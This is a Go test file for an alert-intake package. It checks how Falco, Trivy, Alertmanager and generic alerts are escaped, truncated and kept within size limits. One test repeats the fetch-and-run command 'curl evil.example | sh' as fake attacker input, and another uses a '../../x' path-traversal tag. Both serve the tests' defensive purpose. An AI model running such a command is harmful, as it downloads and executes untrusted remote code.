package intake

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/quell-ir/quell/internal/alert"
)

func TestSafeText(t *testing.T) {
	tests := []struct {
		name  string
		in    string
		limit int
		want  string
		cut   bool
	}{
		{"plain", "sh -c clear", 100, "sh -c clear", false},
		{"empty", "", 10, "", false},
		{"NUL", "a\x00b", 100, `a\x00b`, false},
		{"newline, tab, return", "a\nb\tc\rd", 100, `a\nb\tc\rd`, false},
		{"escape sequence", "\x1b[31mred\x1b[0m", 100, `\x1b[31mred\x1b[0m`, false},
		{"DEL", "a\x7f", 100, `a\x7f`, false},
		{"C1 control", "a\u009bb", 100, `a\u009bb`, false},
		{"bidi override", "abc\u202edcba", 100, `abc\u202edcba`, false},
		{"line separator", "a\u2028b", 100, `a\u2028b`, false},
		{"invalid UTF-8", "a\xffb", 100, "a\ufffdb", false},
		{"unicode kept", "café ✓", 100, "café ✓", false},
		{"cut at limit", strings.Repeat("a", 20), 10, "aaaaaaa…", true},
		{"exactly the limit", strings.Repeat("a", 10), 10, strings.Repeat("a", 10), false},
		{"< counts six", strings.Repeat("<", 5), 20, "<<…", true},
		{"escape never split", "\x00\x00\x00", 12, `\x00…`, true},
		{"runes never split", strings.Repeat("é", 10), 9, "ééé…", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, cut := safeText(tt.in, tt.limit)
			if got != tt.want || cut != tt.cut {
				t.Errorf("safeText(%q, %d) = %q, %v; want %q, %v", tt.in, tt.limit, got, cut, tt.want, tt.cut)
			}
			if n := jsonLen(got); n > tt.limit {
				t.Errorf("kept %q takes %d bytes of JSON, over %d", got, n, tt.limit)
			}
		})
	}
}

func TestJSONLen(t *testing.T) {
	var all strings.Builder
	for r := rune(0); r < 0x3000; r++ {
		all.WriteRune(r)
	}
	for _, s := range []string{"", "plain", `"\`, "<>&", "\x00\x1f\n\t", "\u2028\u2029", "a\xff\xfeb", "é✓🙂", all.String()} {
		b, _ := json.Marshal(s)
		if got, want := jsonLen(s), len(b)-2; got != want {
			t.Errorf("jsonLen(%.20q) = %d, want %d", s, got, want)
		}
	}
}

// falcoWith is a valid Falco alert about a container with the given
// output and output fields (JSON values).
func falcoWith(output string, fields map[string]any) []byte {
	fields["container.id"] = "ee97d9c4186f"
	return rawJSON(map[string]any{
		"rule": "Terminal shell in container", "priority": "Critical", "time": "2024-02-03T04:05:06Z",
		"hostname": "node-1", "output": output, "output_fields": fields,
	})
}

// rawJSON encodes v without escaping <, > and &, as a sender may.
func rawJSON(v any) []byte {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(v)
	return b.Bytes()
}

// checkBounded fails unless a encodes as JSON within MaxAlertJSON.
func checkBounded(t *testing.T, a alert.Alert) int {
	t.Helper()
	b, err := json.Marshal(a)
	if err != nil {
		t.Fatalf("json.Marshal: %v", err)
	}
	if len(b) > MaxAlertJSON {
		t.Errorf("alert takes %d bytes of JSON, over MaxAlertJSON (%d)", len(b), MaxAlertJSON)
	}
	return len(b)
}

// sha is the hex SHA-256 of s.
func sha(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// TestParseFalcoHugeCommandLine is issue 19's 1 MiB attacker text: the
// alert is real, so it is taken, with its text cut and its digest kept.
func TestParseFalcoHugeCommandLine(t *testing.T) {
	cmdline := "sh -c " + strings.Repeat("curl evil.example | sh; ", 450<<10/24)
	output := "A shell was spawned (cmdline=" + cmdline + ")"
	a, err := ParseFalco(falcoWith(output, map[string]any{"proc.cmdline": cmdline}), time.Now())
	if err != nil {
		t.Fatalf("ParseFalco: %v", err)
	}
	if n := jsonLen(a.Output); n > MaxOutput || !strings.HasPrefix(a.Output, "A shell was spawned (cmdline=sh -c curl") || !strings.HasSuffix(a.Output, ellipsis) {
		t.Errorf("Output (%d bytes of JSON) = %.60q...: want the start, cut to %d with …", n, a.Output, MaxOutput)
	}
	kept := a.Fields["proc.cmdline"].(string)
	if n := jsonLen(kept); n > MaxText || !strings.HasPrefix(kept, "sh -c curl") {
		t.Errorf("proc.cmdline (%d bytes of JSON) = %.40q..., want its start cut to %d", n, kept, MaxText)
	}
	want := []alert.Cut{
		{Field: "output", Size: len(output), SHA256: sha(output)},
		{Field: `fields["proc.cmdline"]`, Size: len(cmdline), SHA256: sha(cmdline)},
	}
	if fmt.Sprint(a.Truncated) != fmt.Sprint(want) || a.TruncatedMore != 0 {
		t.Errorf("Truncated = %+v, %d more; want %+v", a.Truncated, a.TruncatedMore, want)
	}
	if a.Target.ContainerID != "ee97d9c4186f" {
		t.Errorf("Target = %+v, want the container", a.Target)
	}
	checkBounded(t, a)
}

// TestBoundsWorstCase builds, for every parser, the largest alert its
// limits let through, in the characters JSON encodes longest, and checks
// that it stays under MaxAlertJSON.
func TestBoundsWorstCase(t *testing.T) {
	long := strings.Repeat("<", 2<<10)
	names := func(n int, prefix string) []string {
		var out []string
		for i := range n {
			out = append(out, fmt.Sprintf("%s%0*d", prefix, MaxNameLen-len(prefix), i))
		}
		return out
	}
	var tags []string
	for range MaxTags {
		tags = append(tags, long)
	}

	fields := map[string]any{}
	for _, n := range names(MaxFields-1, "f") {
		fields[n] = long
	}
	falco := falcoWith(long, fields)
	var f map[string]any
	_ = json.Unmarshal(falco, &f)
	f["rule"], f["uuid"], f["tags"] = long, long, tags
	of := f["output_fields"].(map[string]any)
	of["container.name"], of["k8s.ns.name"], of["k8s.pod.name"] = strings.Repeat("a", 512), strings.Repeat("n", 63), strings.Repeat("p", 253)
	of["k8s.cluster.name"] = strings.Repeat("c", 100)
	delete(of, names(MaxFields-1, "f")[0]) // room for the four above and container.id
	delete(of, names(MaxFields-1, "f")[1])
	delete(of, names(MaxFields-1, "f")[2])
	delete(of, names(MaxFields-1, "f")[3])
	falco = rawJSON(f)

	labels, annotations := map[string]string{}, map[string]string{}
	for _, n := range names(MaxLabels-2, "l") {
		labels[n] = long
	}
	labels["alertname"], labels["container_id"] = long, "ee97d9c4186f"
	for _, n := range names(MaxAnnotations, "a") {
		annotations[n] = long
	}
	annotations["summary"] = long
	delete(annotations, names(MaxAnnotations, "a")[0])
	am := rawJSON(map[string]any{"version": "4", "receiver": long, "alerts": []any{map[string]any{
		"labels": labels, "annotations": annotations, "startsAt": "2024-02-03T04:05:06Z",
		"endsAt": "2024-02-03T05:05:06Z", "generatorURL": long, "fingerprint": strings.Repeat("f", 64), "status": "firing",
	}}})

	gfields, glabels := map[string]any{}, map[string]string{}
	for _, n := range names(MaxFields, "f") {
		gfields[n] = long
	}
	for _, n := range names(MaxLabels, "l") {
		glabels[n] = long
	}
	generic := rawJSON(map[string]any{
		"source": strings.Repeat("s", 63), "id": strings.Repeat("i", 128), "rule": long, "priority": "critical",
		"output": long, "tags": tags, "fields": gfields, "labels": glabels,
		"target": map[string]any{"host": strings.Repeat("h", 63) + "." + strings.Repeat("h", 63), "cluster": strings.Repeat("c", 100),
			"container_id": strings.Repeat("a", 64), "container_name": strings.Repeat("n", 512), "namespace": strings.Repeat("n", 63),
			"pod": strings.Repeat("p", 253), "image": "registry.example:5000/" + strings.Repeat("a", 200) + ":" + strings.Repeat("t", 128)},
	})

	var vulns []string
	for i := range 600 {
		vulns = append(vulns, fmt.Sprintf(`{"VulnerabilityID":"%s%d","PkgName":%q,"InstalledVersion":%q,"FixedVersion":%q,"Severity":"CRITICAL","Title":%q}`,
			long[:100], i, long[:300], long[:300], long[:300], long[:300]))
	}
	var refs []string
	for i := range 20 {
		refs = append(refs, fmt.Sprintf(`"registry.example/%s:%d"`, strings.Repeat("a", 200), i))
	}
	trivy := []byte(`{"SchemaVersion":2,"ReportID":"` + long[:1000] + `","ArtifactName":"` + long[:2000] +
		`","ArtifactType":"container_image","Metadata":{"ImageID":"` + testImageID + `","RepoTags":[` + strings.Join(refs, ",") +
		`],"Reference":"` + long[:2000] + `","OS":{"Family":"` + long[:1000] + `","Name":"` + long[:1000] + `"}},"Results":[{"Vulnerabilities":[` +
		strings.Join(vulns, ",") + `]}]}`)

	parse := map[string]func([]byte) ([]alert.Alert, error){
		"falco": func(b []byte) ([]alert.Alert, error) {
			a, err := ParseFalco(b, time.Now())
			return []alert.Alert{a}, err
		},
		"trivy": func(b []byte) ([]alert.Alert, error) {
			a, err := ParseTrivy(b, time.Now())
			return []alert.Alert{a}, err
		},
		"generic": func(b []byte) ([]alert.Alert, error) {
			a, err := ParseGeneric(b, time.Now())
			return []alert.Alert{a}, err
		},
		"alertmanager": func(b []byte) ([]alert.Alert, error) { return ParseAlertmanager(b, time.Now(), DefaultLabelMap()) },
	}
	for name, body := range map[string][]byte{"falco": falco, "trivy": trivy, "generic": generic, "alertmanager": am} {
		t.Run(name, func(t *testing.T) {
			if len(body) > 1<<20 {
				t.Fatalf("payload of %d bytes is over the API's 1 MiB", len(body))
			}
			as, err := parse[name](body)
			if err != nil {
				t.Fatalf("parse: %v", err)
			}
			n := checkBounded(t, as[0])
			t.Logf("%s: %d-byte payload kept in %d bytes of JSON, %d cuts listed, %d more", name, len(body), n,
				len(as[0].Truncated), as[0].TruncatedMore)
			if len(as[0].Truncated) != alert.MaxCuts || as[0].TruncatedMore == 0 {
				t.Errorf("Truncated lists %d cuts and %d more; want %d and more", len(as[0].Truncated), as[0].TruncatedMore, alert.MaxCuts)
			}
		})
	}
}

func TestParseTrivyLargeReport(t *testing.T) {
	var list []string
	for i := range 4000 {
		list = append(list, finding(fmt.Sprintf("CVE-2024-%05d", i), "pkg", []string{"LOW", "HIGH", "CRITICAL"}[i%3], "1.1"))
	}
	body := []byte(trivyMinimal + `,"Results":[{"Vulnerabilities":[` + strings.Join(list, ",") + `]}]}`)
	a, err := ParseTrivy(body, time.Now())
	if err != nil {
		t.Fatalf("ParseTrivy of %d bytes: %v", len(body), err)
	}
	if got := a.Vulnerabilities.Counts; got["low"] != 1334 || got["high"] != 1333 || got["critical"] != 1333 {
		t.Errorf("Counts = %v, want every finding counted", got)
	}
	if len(a.Vulnerabilities.Top) != alert.MaxTopVulnerabilities {
		t.Errorf("len(Top) = %d, want %d", len(a.Vulnerabilities.Top), alert.MaxTopVulnerabilities)
	}
	t.Logf("%d-byte report kept in %d bytes of JSON", len(body), checkBounded(t, a))
}

func TestParseTrivyRepoTagsBounded(t *testing.T) {
	var tags []string
	for i := range 12 {
		tags = append(tags, fmt.Sprintf("example/app:%d", i))
	}
	quoted, _ := json.Marshal(tags)
	body := trivyMinimal[:len(trivyMinimal)-1] + `,"RepoTags":` + string(quoted) + `}}`
	a, err := ParseTrivy([]byte(body), time.Now())
	if err != nil {
		t.Fatalf("ParseTrivy: %v", err)
	}
	if got := a.Target.RepoTags; len(got) != MaxImageNames || got[0] != "example/app:0" {
		t.Errorf("RepoTags = %q, want the first %d", got, MaxImageNames)
	}
	want := alert.Cut{Field: "target.repo_tags", Size: len(quoted), Items: 12, SHA256: sha(string(quoted))}
	if len(a.Truncated) != 1 || a.Truncated[0] != want {
		t.Errorf("Truncated = %+v, want [%+v]", a.Truncated, want)
	}
	bad := trivyMinimal[:len(trivyMinimal)-1] + `,"RepoTags":["example/app:1","../../x"]}}`
	if _, err := ParseTrivy([]byte(bad), time.Now()); err == nil ||
		err.Error() != `trivy report: Metadata.RepoTags[1]: "../../x" is not an image reference: invalid reference format` {
		t.Errorf("ParseTrivy with a bad tag: %v", err)
	}
}

func TestFieldsBudget(t *testing.T) {
	// 40 values of 1000 bytes: 40 KB, over MaxCollections; each is cut
	// evenly, the short ones kept.
	fields := map[string]any{"short": "keep me", "n": 42}
	for i := range 40 {
		fields[fmt.Sprintf("v%02d", i)] = strings.Repeat("x", 1000)
	}
	a, err := ParseFalco(falcoWith("o", fields), time.Now())
	if err != nil {
		t.Fatalf("ParseFalco: %v", err)
	}
	if a.Fields["short"] != "keep me" || a.Fields["n"] != int64(42) {
		t.Errorf("short fields changed: %v %v", a.Fields["short"], a.Fields["n"])
	}
	v0 := a.Fields["v00"].(string)
	for i := range 40 {
		if v := a.Fields[fmt.Sprintf("v%02d", i)].(string); v != v0 {
			t.Fatalf("v%02d cut to %d bytes, v00 to %d: want an even cut", i, len(v), len(v0))
		}
	}
	if size := jsonSize(a.Fields); size > MaxCollections || size < MaxCollections-200 {
		t.Errorf("fields take %d bytes of JSON, want just under %d", size, MaxCollections)
	}
	if len(a.Truncated) != alert.MaxCuts || a.TruncatedMore != 40-alert.MaxCuts {
		t.Errorf("Truncated lists %d, %d more; want %d, %d more", len(a.Truncated), a.TruncatedMore, alert.MaxCuts, 40-alert.MaxCuts)
	}
	if c := a.Truncated[0]; c.Field != `fields["v00"]` || c.Size != 1000 || c.SHA256 != sha(strings.Repeat("x", 1000)) {
		t.Errorf("Truncated[0] = %+v", c)
	}
}
